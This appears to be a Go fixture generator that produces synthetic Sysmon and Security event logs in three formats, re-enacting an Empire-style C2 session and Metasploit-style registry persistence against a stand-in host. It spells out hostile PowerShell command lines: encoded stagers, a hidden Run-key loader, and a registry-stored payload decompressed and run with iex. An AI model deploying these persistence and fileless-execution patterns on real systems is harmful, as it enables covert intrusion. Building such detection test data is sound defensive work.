package main

import (
	"fmt"
	"strings"
	"time"
)

// The Sysmon scenario: the seed's Empire sequence re-enacted with our own
// host, user, process GUIDs and documentation-range addresses, plus a
// Metasploit-style two-stage write without a clock jump (one connection
// logged after the write it precedes), plus background noise.

const (
	computer      = "WIN-DEMO01"
	sysmonChannel = "Microsoft-Windows-Sysmon/Operational"
	sysmonName    = "Microsoft-Windows-Sysmon"
	sysmonGUID    = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
	secChannel    = "Security"
	secName       = "Microsoft-Windows-Security-Auditing"
	secGUID       = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
	sysmonPID     = 2196
	hostIP        = "192.168.56.101"
	userName      = `WIN-DEMO01\alice`
	hku1          = `HKU\` + sid1
)

// proc is one process that appears in the events.
type proc struct {
	guid  string
	pid   int
	image string
	user  string
}

var (
	pEmpire   = proc{"{7E4A21B0-1D85-65F0-4A02-000000002200}", 4712, psExe, userName}
	pOtherPS  = proc{"{7E4A21B0-1CF2-65F0-3E02-000000002200}", 5208, psExe, userName}
	pMSF      = proc{"{7E4A21B0-2111-65F0-8B02-000000002200}", 7344, psExe, userName}
	pSvchost  = proc{"{7E4A21B0-0F3A-65F0-1000-000000002200}", 1308, `C:\Windows\System32\svchost.exe`, `NT AUTHORITY\NETWORK SERVICE`}
	pChrome   = proc{"{7E4A21B0-1A07-65F0-2F02-000000002200}", 6644, `C:\Program Files\Google\Chrome\Application\chrome.exe`, userName}
	pOneDrive = proc{"{7E4A21B0-1B44-65F0-3302-000000002200}", 5532, `C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe`, userName}
	pSHS      = proc{"{7E4A21B0-0F40-65F0-2400-000000002200}", 3340, `C:\Windows\System32\SecurityHealthService.exe`, `NT AUTHORITY\SYSTEM`}
	pExplorer = proc{"{7E4A21B0-1A00-65F0-2902-000000002200}", 4216, `C:\Windows\explorer.exe`, userName}
)

// event is one Windows event, rendered into all three formats.
type event struct {
	channel   string
	eventID   int
	version   int
	task      int
	category  string // task display name (NXLog Category, ECS event.action)
	keywords  string
	level     int
	created   time.Time // System/TimeCreated
	recordID  int64
	threadID  int
	execPID   int
	secUserID string // System/Security/@UserID ("" for none)
	data      []kv   // EventData, in schema order; values are strings
}

func (e event) get(name string) string {
	for _, f := range e.data {
		if f.K == name {
			return f.V.(string)
		}
	}
	return ""
}

func mustTime(s string) time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t
}

// sysmonUTC renders Sysmon's UtcTime field: "2006-01-02 15:04:05.000".
func sysmonUTC(t time.Time) string { return t.UTC().Format("2006-01-02 15:04:05.000") }

// The guest clock jump: the seed's NetworkConnect events carry a UtcTime
// about 21 hours before their TimeCreated. We use 21h02m13.290s plus the
// logging delay of each event.
const clockJump = 21*time.Hour + 2*time.Minute + 13*time.Second + 290*time.Millisecond

func sysmonEvent(id int, created string, rec int64, tid int, data []kv) event {
	e := event{channel: sysmonChannel, eventID: id, keywords: "0x8000000000000000", level: 4,
		created: mustTime(created), recordID: rec, threadID: tid, execPID: sysmonPID, secUserID: "S-1-5-18", data: data, task: id}
	switch id {
	case 1:
		e.version, e.category = 5, "Process Create (rule: ProcessCreate)"
	case 3:
		e.version, e.category = 5, "Network connection detected (rule: NetworkConnect)"
	case 12:
		e.version, e.category = 2, "Registry object added or deleted (rule: RegistryEvent)"
	case 13:
		e.version, e.category = 2, "Registry value set (rule: RegistryEvent)"
	}
	return e
}

// netConnect: utc is the connection time as Sysmon wrote it.
func netConnect(created string, rec int64, p proc, utc time.Time, srcPort int, dstIP, dstHost string, dstPort int) event {
	portName := map[int]string{80: "http", 443: "https"}[dstPort]
	return sysmonEvent(3, created, rec, 3012, []kv{
		{"UtcTime", sysmonUTC(utc)},
		{"ProcessGuid", p.guid},
		{"ProcessId", fmt.Sprint(p.pid)},
		{"Image", p.image},
		{"User", p.user},
		{"Protocol", "tcp"},
		{"Initiated", "true"},
		{"SourceIsIpv6", "false"},
		{"SourceIp", hostIP},
		{"SourceHostname", computer},
		{"SourcePort", fmt.Sprint(srcPort)},
		{"SourcePortName", ""},
		{"DestinationIsIpv6", "false"},
		{"DestinationIp", dstIP},
		{"DestinationHostname", dstHost},
		{"DestinationPort", fmt.Sprint(dstPort)},
		{"DestinationPortName", portName},
	})
}

// jumpedConnect is a NetworkConnect of the clock-jumped kind: its UtcTime is
// clockJump (plus the logging delay) before its TimeCreated.
func jumpedConnect(created string, rec int64, p proc, delay time.Duration, srcPort int, dstIP, dstHost string, dstPort int) event {
	utc := mustTime(created).Add(-clockJump - delay)
	return netConnect(created, rec, p, utc, srcPort, dstIP, dstHost, dstPort)
}

// regSet is a SetValue (13) in the seed's schema: no User field.
func regSet(created string, rec int64, p proc, utc, target, details string) event {
	return sysmonEvent(13, created, rec, 7484, []kv{
		{"EventType", "SetValue"},
		{"UtcTime", utc},
		{"ProcessGuid", p.guid},
		{"ProcessId", fmt.Sprint(p.pid)},
		{"Image", p.image},
		{"TargetObject", target},
		{"Details", details},
	})
}

func regDelete(created string, rec int64, p proc, utc, target string) event {
	return sysmonEvent(12, created, rec, 7484, []kv{
		{"EventType", "DeleteValue"},
		{"UtcTime", utc},
		{"ProcessGuid", p.guid},
		{"ProcessId", fmt.Sprint(p.pid)},
		{"Image", p.image},
		{"TargetObject", target},
	})
}

// Payloads and loaders of the scenario.
var (
	scenarioDebug   = encUTF16(empireStager("sysmon-empire-user", "/admin/get.php"))
	scenarioUpdater = `"` + psExe + `" -c "$x=$((gp HKCU:Software\Microsoft\Windows\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x"`
	scenarioMSFBlob = encDeflate(metasploitScript("sysmon-metasploit"))
	scenarioMSFRun  = `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c "sleep 1; iex(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String((Get-Item 'HKCU:Software\Aw3KxQ').GetValue('Pq7Lz')),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"`
	scenarioLaunch  = `"` + psExe + `" -noP -sta -w 1 -enc ` + encUTF16(empireStager("sysmon-launcher", "/login/process.php"))
)

// scenarioEvents returns every event in logging order (TimeCreated order,
// which is also record order within the Sysmon channel).
func scenarioEvents() []event {
	ms := time.Millisecond
	c2, c2Host := "203.0.113.50", "c2.example.invalid"
	msfIP := "198.51.100.23"
	ev := []event{
		netConnect("2024-03-12T09:08:12.5100000Z", 20001, pSvchost, mustTime("2024-03-12T09:08:11.204Z"), 49702, "198.51.100.7", "", 443),
		{
			channel: secChannel, eventID: 4624, version: 2, task: 12544, category: "Logon", keywords: "0x8020000000000000", level: 0,
			created: mustTime("2024-03-12T09:09:30.5550000Z"), recordID: 88231, threadID: 812, execPID: 756,
			data: []kv{
				{"SubjectUserSid", "S-1-5-18"}, {"SubjectUserName", "WIN-DEMO01$"}, {"SubjectDomainName", "WORKGROUP"}, {"SubjectLogonId", "0x3e7"},
				{"TargetUserSid", sid1}, {"TargetUserName", "alice"}, {"TargetDomainName", computer}, {"TargetLogonId", "0x5a1c2f"},
				{"LogonType", "2"}, {"LogonProcessName", "User32 "}, {"AuthenticationPackageName", "Negotiate"}, {"WorkstationName", computer},
				{"LogonGuid", "{00000000-0000-0000-0000-000000000000}"}, {"TransmittedServices", "-"}, {"LmPackageName", "-"}, {"KeyLength", "0"},
				{"ProcessId", "0x2f4"}, {"ProcessName", `C:\Windows\System32\svchost.exe`}, {"IpAddress", "127.0.0.1"}, {"IpPort", "0"},
				{"ImpersonationLevel", "%%1833"}, {"ElevatedToken", "%%1842"},
			},
		},
		sysmonEvent(1, "2024-03-12T09:09:41.2030000Z", 20002, 3012, []kv{
			{"UtcTime", "2024-03-12 09:09:41.198"},
			{"ProcessGuid", pEmpire.guid},
			{"ProcessId", fmt.Sprint(pEmpire.pid)},
			{"Image", pEmpire.image},
			{"FileVersion", "10.0.19041.3996 (WinBuild.160101.0800)"},
			{"Description", "Windows PowerShell"},
			{"Product", "Microsoft® Windows® Operating System"},
			{"Company", "Microsoft Corporation"},
			{"CommandLine", scenarioLaunch},
			{"CurrentDirectory", `C:\Users\alice\`},
			{"User", userName},
			{"LogonGuid", "{7E4A21B0-1A00-65F0-2F1C-5A0000000000}"},
			{"LogonId", "0x5a1c2f"},
			{"TerminalSessionId", "1"},
			{"IntegrityLevel", "Medium"},
			{"Hashes", "SHA256=0000000000000000000000000000000000000000000000000000000000000000"},
			{"ParentProcessGuid", pExplorer.guid},
			{"ParentProcessId", fmt.Sprint(pExplorer.pid)},
			{"ParentImage", pExplorer.image},
			{"ParentCommandLine", `C:\Windows\Explorer.EXE`},
		}),
		jumpedConnect("2024-03-12T09:09:58.1200000Z", 20003, pEmpire, 410*ms, 49711, c2, c2Host, 80),
		netConnect("2024-03-12T09:12:30.4400000Z", 20004, pChrome, mustTime("2024-03-12T09:12:29.950Z"), 49730, "198.51.100.80", "", 443),
		netConnect("2024-03-12T09:13:02.6100000Z", 20005, pOneDrive, mustTime("2024-03-12T09:13:01.990Z"), 49741, "198.51.100.31", "", 443),
		regSet("2024-03-12T09:13:40.5160000Z", 20006, pOneDrive, "2024-03-12 09:13:40.512",
			hku1+`\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive`, `"C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background`),
		jumpedConnect("2024-03-12T09:14:58.4120000Z", 20007, pEmpire, 380*ms, 49752, c2, c2Host, 80),
		netConnect("2024-03-12T09:15:01.0020000Z", 20008, pOtherPS, mustTime("2024-03-12T09:15:00.350Z"), 49753, "203.0.113.77", "", 443),
		jumpedConnect("2024-03-12T09:15:03.3770000Z", 20009, pEmpire, 395*ms, 49754, c2, c2Host, 80),
		regSet("2024-03-12T09:15:06.3820923Z", 20010, pEmpire, "2024-03-12 09:15:06.376",
			hku1+`\Software\Microsoft\Windows\CurrentVersion\Debug`, scenarioDebug),
		regSet("2024-03-12T09:15:06.3859316Z", 20011, pEmpire, "2024-03-12 09:15:06.376",
			hku1+`\Software\Microsoft\Windows\CurrentVersion\Run\Updater`, scenarioUpdater),
		regSet("2024-03-12T09:15:06.4051200Z", 20012, pEmpire, "2024-03-12 09:15:06.401",
			hku1+`\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ZoneMap\ProxyBypass`, "DWORD (0x00000001)"),
		jumpedConnect("2024-03-12T09:15:08.5660000Z", 20013, pEmpire, 402*ms, 49755, c2, c2Host, 80),
		jumpedConnect("2024-03-12T09:15:08.5670000Z", 20014, pEmpire, 330*ms, 49756, c2, c2Host, 80),
		regSet("2024-03-12T09:17:20.1220000Z", 20015, pExplorer, "2024-03-12 09:17:20.118",
			hku1+`\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\MRUListEx`, "Binary Data"),
		regSet("2024-03-12T09:18:02.3340000Z", 20016, pSHS, "2024-03-12 09:18:02.330",
			`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SecurityHealth`, `%windir%\system32\SecurityHealthSystray.exe`),
		regDelete("2024-03-12T09:18:30.0140000Z", 20017, pExplorer, "2024-03-12 09:18:30.010",
			hku1+`\Software\Microsoft\Windows\CurrentVersion\RunOnce\Delete Cached Update Binary`),
		jumpedConnect("2024-03-12T09:20:14.9000000Z", 20018, pEmpire, 350*ms, 49790, c2, c2Host, 80),
		netConnect("2024-03-12T09:29:06.3000000Z", 20019, pMSF, mustTime("2024-03-12T09:29:05.000Z"), 49801, msfIP, "", 8080),
		regSet("2024-03-12T09:30:12.1057000Z", 20020, pMSF, "2024-03-12 09:30:12.101",
			hku1+`\Software\Aw3KxQ\Pq7Lz`, scenarioMSFBlob),
		regSet("2024-03-12T09:30:12.1079000Z", 20021, pMSF, "2024-03-12 09:30:12.103",
			hku1+`\Software\Microsoft\Windows\CurrentVersion\Run\kJqVwNtR`, scenarioMSFRun),
		// Connected at 09:30:10.250, before both writes, logged at 09:30:13.910, after them.
		netConnect("2024-03-12T09:30:13.9100000Z", 20022, pMSF, mustTime("2024-03-12T09:30:10.250Z"), 49802, msfIP, "", 8080),
		netConnect("2024-03-12T09:30:17.0200000Z", 20023, pMSF, mustTime("2024-03-12T09:30:15.480Z"), 49803, msfIP, "", 8080),
		netConnect("2024-03-12T09:30:21.0000000Z", 20024, pChrome, mustTime("2024-03-12T09:30:20.500Z"), 49810, "198.51.100.80", "", 443),
	}
	for i := 1; i < len(ev); i++ {
		if !ev[i].created.After(ev[i-1].created) {
			panic(fmt.Sprintf("fixturegen: event %d is not in TimeCreated order", ev[i].recordID))
		}
	}
	return ev
}

// ---------------------------------------------------------------- rendering

func xmlEscape(s string) string {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;", "'", "&apos;")
	return r.Replace(s)
}

// systemTime renders TimeCreated as wevtutil does: 7 fractional digits.
func systemTime(t time.Time) string { return t.UTC().Format("2006-01-02T15:04:05.0000000Z") }

func providerOf(e event) (name, guid string) {
	if e.channel == secChannel {
		return secName, secGUID
	}
	return sysmonName, sysmonGUID
}

// renderXML renders the events the way `wevtutil qe <log> /f:xml` does:
// one <Event> element per line, single-quoted attributes, no root element.
func renderXML(events []event) []byte {
	var b strings.Builder
	for _, e := range events {
		name, guid := providerOf(e)
		fmt.Fprintf(&b, "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='%s' Guid='%s'/>", name, guid)
		fmt.Fprintf(&b, "<EventID>%d</EventID><Version>%d</Version><Level>%d</Level><Task>%d</Task><Opcode>0</Opcode><Keywords>%s</Keywords>",
			e.eventID, e.version, e.level, e.task, e.keywords)
		fmt.Fprintf(&b, "<TimeCreated SystemTime='%s'/><EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='%d' ThreadID='%d'/>",
			systemTime(e.created), e.recordID, e.execPID, e.threadID)
		fmt.Fprintf(&b, "<Channel>%s</Channel><Computer>%s</Computer>", xmlEscape(e.channel), computer)
		if e.secUserID != "" {
			fmt.Fprintf(&b, "<Security UserID='%s'/>", e.secUserID)
		} else {
			b.WriteString("<Security/>")
		}
		b.WriteString("</System><EventData>")
		for _, f := range e.data {
			v := f.V.(string)
			if v == "" {
				fmt.Fprintf(&b, "<Data Name='%s'/>", f.K)
			} else {
				fmt.Fprintf(&b, "<Data Name='%s'>%s</Data>", f.K, xmlEscape(v))
			}
		}
		b.WriteString("</EventData></Event>\r\n")
	}
	return []byte(b.String())
}

func isoMillis(t time.Time) string { return t.UTC().Format("2006-01-02T15:04:05.000Z") }

// renderECS renders Winlogbeat 8 ECS JSON lines. event.created is the
// shipper's ingest time (seconds later) and must not be used as the event
// time; winlog.event_id is a string as in Winlogbeat 8.
func renderECS(events []event) []byte {
	var b []byte
	for _, e := range events {
		name, guid := providerOf(e)
		data := obj{}
		for _, f := range e.data {
			data = append(data, f)
		}
		user := obj{{"identifier", "S-1-5-18"}, {"domain", "NT AUTHORITY"}, {"name", "SYSTEM"}, {"type", "User"}}
		level := "information"
		outcome := []kv(nil)
		if e.channel == secChannel {
			level = "information"
			outcome = []kv{{"outcome", "success"}}
		}
		evt := obj{{"code", fmt.Sprint(e.eventID)}, {"kind", "event"}, {"provider", name},
			{"created", isoMillis(e.created.Add(1500 * time.Millisecond))}, {"action", e.category}}
		evt = append(evt, outcome...)
		winlog := obj{
			{"api", "wineventlog"},
			{"channel", e.channel},
			{"computer_name", computer},
			{"event_id", fmt.Sprint(e.eventID)},
			{"record_id", e.recordID},
			{"provider_guid", guid},
			{"provider_name", name},
			{"process", obj{{"pid", e.execPID}, {"thread", obj{{"id", e.threadID}}}}},
			{"task", e.category},
			{"opcode", "Info"},
			{"version", e.version},
		}
		if e.secUserID != "" {
			winlog = append(winlog, kv{"user", user})
		}
		winlog = append(winlog, kv{"event_data", data})
		line := obj{
			{"@timestamp", isoMillis(e.created)},
			{"agent", obj{{"type", "winlogbeat"}, {"version", "8.12.2"}}},
			{"ecs", obj{{"version", "8.0.0"}}},
			{"event", evt},
			{"host", obj{{"name", strings.ToLower(computer)}, {"hostname", strings.ToLower(computer)}}},
			{"log", obj{{"level", level}}},
			{"winlog", winlog},
		}
		b = append(b, marshalLine(line)...)
	}
	return b
}

// renderNXLog renders flat NXLog im_msvistalog + to_json() lines. EventTime
// is NXLog's default format (local time, here UTC, whole seconds);
// ProcessID is the publisher's (Sysmon's) process while the event data's
// ProcessId is the subject process; the event data's EventType overwrites
// NXLog's own EventType field, as NXLog does.
func renderNXLog(events []event) []byte {
	var b []byte
	for _, e := range events {
		name, guid := providerOf(e)
		evType, sevVal, sev := "INFO", 2, "INFO"
		if e.channel == secChannel {
			evType = "AUDIT_SUCCESS"
		}
		if t := e.get("EventType"); t != "" {
			evType = t
		}
		line := obj{
			{"EventTime", e.created.UTC().Format("2006-01-02 15:04:05")},
			{"Hostname", computer},
			{"Keywords", int64(-9223372036854775808)},
			{"EventType", evType},
			{"SeverityValue", sevVal},
			{"Severity", sev},
			{"EventID", e.eventID},
			{"SourceName", name},
			{"ProviderGuid", guid},
			{"Version", e.version},
			{"Task", e.task},
			{"OpcodeValue", 0},
			{"RecordNumber", e.recordID},
			{"ProcessID", e.execPID},
			{"ThreadID", e.threadID},
			{"Channel", e.channel},
		}
		if e.channel == secChannel {
			line[2] = kv{"Keywords", int64(-9214364837600034816)}
		}
		if e.secUserID != "" {
			line = append(line, kv{"Domain", "NT AUTHORITY"}, kv{"AccountName", "SYSTEM"}, kv{"UserID", e.secUserID}, kv{"AccountType", "User"})
		}
		line = append(line, kv{"Category", e.category}, kv{"Opcode", "Info"})
		for _, f := range e.data {
			if f.K == "EventType" {
				continue
			}
			line = append(line, f)
		}
		line = append(line,
			kv{"EventReceivedTime", e.created.Add(1500 * time.Millisecond).UTC().Format("2006-01-02 15:04:05")},
			kv{"SourceModuleName", "eventlog"},
			kv{"SourceModuleType", "im_msvistalog"})
		b = append(b, marshalLine(line)...)
	}
	return b
}
